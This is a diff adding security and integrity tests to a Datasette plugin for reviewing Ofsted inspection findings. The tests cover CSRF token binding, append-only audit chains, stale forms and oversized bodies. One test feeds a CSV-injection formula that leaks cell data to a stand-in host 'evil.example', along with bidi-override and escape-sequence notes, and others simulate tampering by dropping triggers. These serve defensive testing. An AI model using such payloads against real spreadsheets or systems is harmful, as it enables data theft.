@@ -15,6 +15,7 @@ import inspect
 import io
 import json
 import re
+import shutil
 import sqlite3
 import time
 from pathlib import Path
@@ -27,15 +28,18 @@ from datasette.app import Datasette
 from datasette.plugins import pm
 
 from datasette_ofsted import hookimpl
+from datasette_ofsted import reviews as reviews_module
 from datasette_ofsted.reviews import (
     MAX_NOTE,
     REVALIDATE_SECONDS,
     apply_reviews,
     create_reviews_database,
     improvement_key,
+    insert_review,
     register_reviewed_status,
     register_sql_functions,
     reviews_path_beside,
+    verify_chain,
 )
 from ingest.evaluate import evaluate
 
@@ -107,7 +111,11 @@ async def signed_in(datasette: Datasette, actor_id: str) -> tuple[dict, dict]:
         return cookies, dict(SAME_ORIGIN)
     token = page.cookies.get("ds_csrftoken")
     assert token, "the compare page hands a reviewer Datasette's CSRF token"
-    return {**cookies, "ds_csrftoken": token}, {"x-csrftoken": token}
+    headers = {"x-csrftoken": token}
+    form_token = re.search(r'name="review_token" value="([^"]+)"', page.text)
+    if form_token:  # the page's review form, bound to this reviewer (only a reviewer's page has one)
+        headers["x-ofsted-review-token"] = form_token.group(1)
+    return {**cookies, "ds_csrftoken": token}, headers
 
 
 async def run_sql(datasette: Datasette, sql: str, **params):
@@ -139,12 +147,27 @@ def improvement(data: dict, status: str, side: str = "from") -> dict:
     raise AssertionError(f"no {status} row with an improvement on the {side} side")
 
 
-async def post_review(datasette, cookies, headers, finding_id, status, note=""):
+async def item_key_of(datasette, finding_id) -> str | None:
+    """The review key the comparison's JSON gives an improvement (None for anything else)."""
+    data = (await datasette.client.get(PAIR + ".json")).json()
+    for row in data["rows"]:
+        for finding in row["from"] + row["to"]:
+            if finding["id"] == finding_id and "item_key" in finding:
+                return finding["item_key"]
+    return None
+
+
+async def post_review(datasette, cookies, headers, finding_id, status, note="", item_key=None):
+    """POST a review as a script does: the improvement's id and the key of the text the reviewer saw."""
+    key = item_key
+    if key is None and (await datasette.client.get(PAIR + ".json")).status_code == 200:
+        key = await item_key_of(datasette, finding_id)
+    payload = {"finding_id": finding_id, "item_key": key, "status": status, "note": note}
     return await datasette.client.post(
         PAIR + "/review",
-        json={"finding_id": finding_id, "status": status, "note": note},
+        content=json.dumps(payload).encode("ascii"),  # escaped as JSON escapes (a lone surrogate included)
         cookies=cookies,
-        headers=headers,
+        headers={"content-type": "application/json", **headers},
     )
 
 
@@ -281,9 +304,16 @@ async def test_the_page_form_with_its_csrf_field_records_a_review(ds, reviews_db
     page = (await ds.client.get(PAIR, cookies=cookies)).text
     field = re.search(r'<input type="hidden" name="csrftoken" value="([^"]+)">', page)
     assert field, "the review form carries Datasette's CSRF field"
+    form = dict(
+        re.findall(
+            r'<input type="hidden" name="(\w+)" value="([^"]*)">',
+            page.split(f'id="review-{finding["id"]}"')[1].split("</form>")[0],
+        )
+    )
+    assert form["item_key"] == finding["item_key"], "the form carries the key of the text the reviewer sees"
     response = await ds.client.post(
         PAIR + "/review",
-        data={"csrftoken": field.group(1), "finding_id": finding["id"], "status": "recurring", "note": "x"},
+        data={**form, "status": "recurring", "note": "x"},
         cookies=cookies,
         headers={k: v for k, v in headers.items() if k != "x-csrftoken"},
     )
@@ -735,3 +765,284 @@ async def test_without_a_reviews_database_the_pages_show_the_engine_calls_and_no
     finding_id = improvement(data, "recurring")["id"]
     assert (await post_review(ds, {}, {}, finding_id, "resolved")).status_code == 403
     assert (await ds.client.get("/-/ofsted/reviews.json")).status_code == 404
+
+
+# Integrity: a review lands on the text the reviewer saw, with a status its side can take
+
+
+@pytest.mark.asyncio
+async def test_a_review_of_a_text_that_moved_since_the_page_was_opened_is_refused_409(ds, reviews_db):
+    data = await comparison(ds)
+    seen = improvement(data, "not_revisited")
+    other = improvement(data, "recurring")
+    cookies, headers = await signed_in(ds, "alice")
+    # The page showed `seen`; the finding id now holds another text (a corrected file was ingested).
+    response = await post_review(ds, cookies, headers, other["id"], "resolved", "x", item_key=seen["item_key"])
+    assert response.status_code == 409 and "out of date" in response.json()["error"]
+    assert "reload" in response.json()["error"].lower()
+    # The text the reviewer saw is gone altogether.
+    gone = await post_review(ds, cookies, headers, seen["id"], "resolved", "x", item_key=seen["document_id"] + ":0")
+    assert gone.status_code == 409
+    missing = await post_review(ds, cookies, headers, seen["id"], "resolved", "x", item_key="")
+    assert missing.status_code == 400 and "item_key" in missing.text
+    assert stored_reviews(reviews_db) == []
+    ok = await post_review(ds, cookies, headers, seen["id"], "resolved", "x", item_key=seen["item_key"])
+    assert ok.status_code == 200 and ok.json()["item_key"] == seen["item_key"]
+
+
+@pytest.mark.asyncio
+async def test_a_corrected_report_ingested_while_the_page_is_open_makes_its_form_out_of_date(sutton_db, tmp_path):
+    """The real race: a reviewer opens the page, a corrected file for the same document is ingested (ids
+    follow the order of items, so the form's finding id now names the next text), the form is posted."""
+    db = tmp_path / "ofsted.db"
+    shutil.copy(sutton_db, db)
+    reviews = create_reviews_database(db)
+    datasette = Datasette([str(reviews), str(db)], metadata=metadata())
+    await datasette.invoke_startup()
+    cookies, headers = await signed_in(datasette, "alice")
+    data = await comparison(datasette)
+    row = next(r for r in data["rows"] if r["auto_status"] == "not_revisited")
+    seen = next(f for f in row["from"] if f["role"] == "improvement")
+    page = (await datasette.client.get(PAIR, cookies=cookies)).text
+    form = dict(
+        re.findall(
+            r'<input type="hidden" name="(\w+)" value="([^"]*)">',
+            page.split(f'id="review-{seen["id"]}"')[1].split("</form>")[0],
+        )
+    )
+    # The corrected 2013 report: the improvement shown is dropped, so its id passes to the text after it.
+    corrected = tmp_path / "corrected.txt"
+    source = (REPORTS / SUTTON[1]).read_text(encoding="utf-8")
+    first_words = " ".join(seen["text"].split()[:6])
+    lines = source.splitlines()
+    kept = [line for line in lines if first_words not in " ".join(line.split())]
+    assert len(kept) < len(lines), "the improvement's line is found in the report"
+    corrected.write_text("\n".join(kept) + "\n", encoding="utf-8")
+    result = run_ingest(str(corrected), "--db", str(db), "--workers", "1")
+    assert result.returncode == 0, result.stderr
+    after = await comparison(datasette)
+    now_at_id = [f for r in after["rows"] for f in r["from"] if f["id"] == seen["id"]]
+    assert not now_at_id or now_at_id[0]["item_key"] != seen["item_key"], "the id now names another text"
+    response = await datasette.client.post(
+        PAIR + "/review", data={**form, "status": "resolved", "note": "x"}, cookies=cookies, headers=headers
+    )
+    assert response.status_code == 409, response.text
+    assert "out of date" in response.text
+    assert stored_reviews(reviews) == []
+
+
+@pytest.mark.asyncio
+async def test_a_status_the_item_s_side_cannot_take_is_refused_400(ds, reviews_db):
+    data = await comparison(ds)
+    earlier = improvement(data, "recurring", side="from")
+    later = improvement(data, "new", side="to")
+    cookies, headers = await signed_in(ds, "alice")
+    for finding, status in [(earlier, "new"), (later, "resolved"), (later, "not_revisited")]:
+        response = await post_review(ds, cookies, headers, finding["id"], status)
+        assert response.status_code == 400, (finding["id"], status)
+        assert "cannot apply" in response.text
+    assert stored_reviews(reviews_db) == []
+    assert (await post_review(ds, cookies, headers, later["id"], "recurring")).status_code == 200
+
+
+def test_insert_or_replace_cannot_rewrite_a_review(reviews_db):
+    """Recursive triggers are off by default, so REPLACE's delete fires no delete trigger: an insert trigger
+    refuses a row whose id is held."""
+    insert_review(sqlite3.connect(reviews_db), {**BLANK_REVIEW, "status": "resolved"})
+    with sqlite3.connect(reviews_db) as conn, pytest.raises(sqlite3.IntegrityError, match="append-only"):
+        conn.execute(
+            "insert or replace into reviews (id, authority_id, from_inspection_id, to_inspection_id, item_key, side, "
+            "status, note, actor_id, at) values (1, 'sutton', 'a', 'b', 'k', 'from', 'new', '', 'mallory', 'then')"
+        )
+    with sqlite3.connect(reviews_db) as conn:
+        assert conn.execute("select status, actor_id from reviews").fetchall() == [("resolved", "alice")]
+        assert verify_chain(conn)["intact"]
+
+
+BLANK_REVIEW = {
+    "authority_id": "sutton",
+    "from_inspection_id": "sutton-2013-05-13",
+    "to_inspection_id": "sutton-2018-06-26",
+    "item_key": "sutton-2013-05-13-report:0000000000000000",
+    "side": "from",
+    "finding_id": "sutton-2013-05-13-report-001",
+    "finding_text": "An improvement no longer in the report.",
+    "status": "resolved",
+    "auto_status": "not_revisited",
+    "themes": "",
+    "evidence": "[]",
+    "note": "",
+    "actor_id": "alice",
+    "at": "2026-01-01T00:00:00+00:00",
+}
+
+
+@pytest.mark.asyncio
+async def test_history_is_chained_and_a_rewrite_around_the_guards_shows_on_the_history_page(ds, reviews_db, capsys):
+    finding = improvement(await comparison(ds), "not_revisited")
+    cookies, headers = await signed_in(ds, "alice")
+    for status in ("resolved", "not_revisited", "recurring"):
+        assert (await post_review(ds, cookies, headers, finding["id"], status)).status_code == 200
+    trail = (await ds.client.get(f"{PAIR}/reviews.json")).json()["audit_trail"]
+    assert trail == {"intact": True, "reviews": 3, "broken_at": None, "reason": None}
+    assert "The audit trail is intact" in (await ds.client.get(f"{PAIR}/reviews")).text
+    # Someone with the file drops the guard and rewrites the second review's status.
+    with sqlite3.connect(reviews_db) as conn:
+        conn.execute("drop trigger reviews_no_update")
+        conn.execute("update reviews set status = 'resolved', actor_id = 'mallory' where id = 2")
+    trail = (await ds.client.get(f"{PAIR}/reviews.json")).json()["audit_trail"]
+    assert not trail["intact"] and trail["broken_at"] == 2 and trail["reviews"] == 1
+    assert "tampered with" in (await ds.client.get(f"{PAIR}/reviews")).text
+    # Checked when the reviews database is opened; the guard comes back.
+    await serve(ds.databases["ofsted"].path, reviews_db)
+    assert "review #2" in capsys.readouterr().err
+    with sqlite3.connect(reviews_db) as conn, pytest.raises(sqlite3.IntegrityError, match="append-only"):
+        conn.execute("update reviews set note = 'x'")
+
+
+def test_a_removed_or_slipped_in_review_breaks_the_chain(reviews_db):
+    conn = sqlite3.connect(reviews_db)
+    for status in ("resolved", "recurring", "not_revisited"):
+        insert_review(conn, {**BLANK_REVIEW, "status": status})
+    assert verify_chain(conn) == {"intact": True, "reviews": 3, "broken_at": None, "reason": None}
+    conn.execute("drop trigger reviews_no_delete")
+    conn.execute("delete from reviews where id = 2")
+    conn.commit()
+    assert verify_chain(conn)["broken_at"] == 3 and "removed" in verify_chain(conn)["reason"]
+    conn.execute(
+        "insert into reviews (authority_id, from_inspection_id, to_inspection_id, item_key, side, status, note, "
+        "actor_id, at) values ('sutton', 'a', 'b', 'k', 'from', 'new', '', 'mallory', 'then')"
+    )
+    conn.commit()
+    assert not verify_chain(conn)["intact"]
+
+
+def test_a_reviews_database_made_before_the_chain_is_chained_once(tmp_path):
+    path = tmp_path / "ofsted_reviews.db"
+    old_schema = re.sub(r",\s*prev_hash text,\s*hash text", "", reviews_module.SCHEMA)
+    old_schema = old_schema.split("create trigger if not exists reviews_no_replace")[0] + (
+        "create trigger if not exists reviews_no_delete before delete on reviews begin select raise(abort, 'x'); end;"
+    )
+    with sqlite3.connect(path) as conn:
+        conn.executescript(old_schema)
+        conn.execute(
+            "insert into reviews (authority_id, from_inspection_id, to_inspection_id, item_key, side, status, note, "
+            "actor_id, at) values ('sutton', 'a', 'b', 'k', 'from', 'resolved', '', 'alice', 'then')"
+        )
+    create_reviews_database(tmp_path / "ofsted.db")
+    conn = sqlite3.connect(path)
+    assert verify_chain(conn) == {"intact": True, "reviews": 1, "broken_at": None, "reason": None}
+    insert_review(conn, {**BLANK_REVIEW})
+    assert verify_chain(conn)["reviews"] == 2
+    with pytest.raises(sqlite3.IntegrityError, match="append-only"):
+        conn.execute("update reviews set status = 'new'")
+
+
+@only_with_origin_checks
+@pytest.mark.asyncio
+async def test_on_1a_root_reviews_only_when_the_reviewers_setting_names_it(sutton_db, reviews_db):
+    finding_id = improvement(await comparison(await serve(sutton_db, reviews_db)), "recurring")["id"]
+    for reviewers in (None, REVIEWERS):
+        datasette = await serve(sutton_db, reviews_db, reviewers=reviewers)
+        datasette.root_enabled = True  # `datasette --root`
+        cookies, headers = await signed_in(datasette, "root")
+        assert (await datasette.client.get("/-/actor.json", cookies=cookies)).json()["actor"]["id"] == "root"
+        assert (await post_review(datasette, cookies, headers, finding_id, "resolved")).status_code == 403
+        assert "Review this call" not in (await datasette.client.get(PAIR, cookies=cookies)).text
+        # Nor may root rewrite or drop the reviews through Datasette's write API.
+        dropped = await datasette.client.post(
+            "/ofsted_reviews/reviews/-/drop", json={"confirm": True}, cookies=cookies, headers=headers
+        )
+        assert dropped.status_code == 403
+    assert stored_reviews(reviews_db) == []
+    named = await serve(sutton_db, reviews_db, reviewers={"id": ["root"]})
+    named.root_enabled = True
+    cookies, headers = await signed_in(named, "root")
+    assert (await post_review(named, cookies, headers, finding_id, "resolved")).status_code == 200
+
+
+@pytest.mark.asyncio
+async def test_a_review_whose_improvement_is_gone_shows_as_orphaned(ds, reviews_db):
+    finding = improvement(await comparison(ds), "not_revisited")
+    cookies, headers = await signed_in(ds, "alice")
+    assert (await post_review(ds, cookies, headers, finding["id"], "resolved")).status_code == 200
+    # A rebuild reads an item differently: its review's key no longer names an improvement of the pair.
+    with sqlite3.connect(reviews_db) as conn:
+        insert_review(conn, {**BLANK_REVIEW, "note": "on the old reading"})
+    data = (await ds.client.get(f"{PAIR}/reviews.json")).json()
+    assert [(r["note"], r["orphaned"]) for r in data["reviews"]] == [("on the old reading", True), ("", False)]
+    assert data["orphaned"] == 1
+    page = (await ds.client.get(f"{PAIR}/reviews")).text
+    assert "on the old reading" in page and "orphaned</span>" in page
+
+
+@pytest.mark.asyncio
+async def test_notes_that_are_not_plain_text_are_refused_and_formulas_stay_text(ds, reviews_db):
+    finding = improvement(await comparison(ds), "recurring")
+    cookies, headers = await signed_in(ds, "alice")
+    for note in ("a\ud800b", "a\x00b", "\x1b[2Jcleared", "evil\u202etxt.exe", "\u2066isolated"):
+        response = await post_review(ds, cookies, headers, finding["id"], "resolved", note)
+        assert response.status_code == 400, (note, response.status_code)
+        assert "note" in response.text
+    assert stored_reviews(reviews_db) == []
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    for note in (formula, "+1", "-1", "@SUM(A1)", "line one\nline two"):
+        assert (await post_review(ds, cookies, headers, finding["id"], "resolved", note)).status_code == 200
+    csv_text = (await ds.client.get("/ofsted_reviews/reviews.csv?_size=max", follow_redirects=True)).text
+    notes = [row["note"] for row in csv.DictReader(io.StringIO(csv_text))]
+    assert notes[:4] == ["'" + formula, "'+1", "'-1", "'@SUM(A1)"] and notes[4] == "line one\nline two"
+    assert not any(n.startswith(("=", "+", "-", "@")) for n in notes)
+
+
+@pytest.mark.asyncio
+async def test_a_huge_review_body_is_refused_by_its_size_before_it_is_read(ds, reviews_db):
+    cookies, headers = await signed_in(ds, "alice")
+    sent = []
+
+    async def two_hundred_megabytes():
+        for _ in range(200):
+            sent.append(1)
+            yield b" " * (1024 * 1024)
+
+    started = time.monotonic()
+    declared = await ds.client.post(
+        PAIR + "/review",
+        content=two_hundred_megabytes(),
+        cookies=cookies,
+        headers={**headers, "content-type": "application/json", "content-length": str(200 * 1024 * 1024)},
+    )
+    assert declared.status_code == 400 and "too large" in declared.text
+    sent.clear()
+    streamed = await ds.client.post(
+        PAIR + "/review",
+        content=two_hundred_megabytes(),
+        cookies=cookies,
+        headers={**headers, "content-type": "application/json"},
+    )
+    assert streamed.status_code == 400 and "too large" in streamed.text
+    assert len(sent) <= 2, "the body was read past the limit"
+    assert time.monotonic() - started < 10
+    assert stored_reviews(reviews_db) == []
+
+
+@only_with_csrf_tokens
+@pytest.mark.asyncio
+async def test_on_065_a_planted_csrf_token_does_not_let_another_site_review_as_the_reviewer(ds, reviews_db):
+    """asgi-csrf's token is anyone's: one an anonymous visitor gets, planted as the reviewer's cookie from a
+    sibling subdomain, passes its check. The review form's own token is signed for the reviewer who opened it."""
+    finding = improvement(await comparison(ds), "recurring")
+    anonymous = (await ds.client.get("/-/messages")).cookies.get("ds_csrftoken")
+    assert anonymous, "a page with a form hands an anonymous visitor a CSRF token"
+    planted = {**actor_cookie(ds, "alice"), "ds_csrftoken": anonymous}
+    forged = {"x-csrftoken": anonymous}
+    assert (await post_review(ds, planted, forged, finding["id"], "resolved")).status_code == 403
+    # The form token of another reviewer (bob's page) does not pass for alice either.
+    _bob, bob_headers = await signed_in(ds, "bob")
+    as_bob = {**forged, "x-ofsted-review-token": bob_headers["x-ofsted-review-token"]}
+    assert (await post_review(ds, planted, as_bob, finding["id"], "resolved")).status_code == 403
+    assert (
+        await post_review(ds, planted, {**forged, "x-ofsted-review-token": "x"}, finding["id"], "resolved")
+    ).status_code == 403
+    assert stored_reviews(reviews_db) == []
+    cookies, headers = await signed_in(ds, "alice")
+    assert (await post_review(ds, cookies, headers, finding["id"], "resolved")).status_code == 200
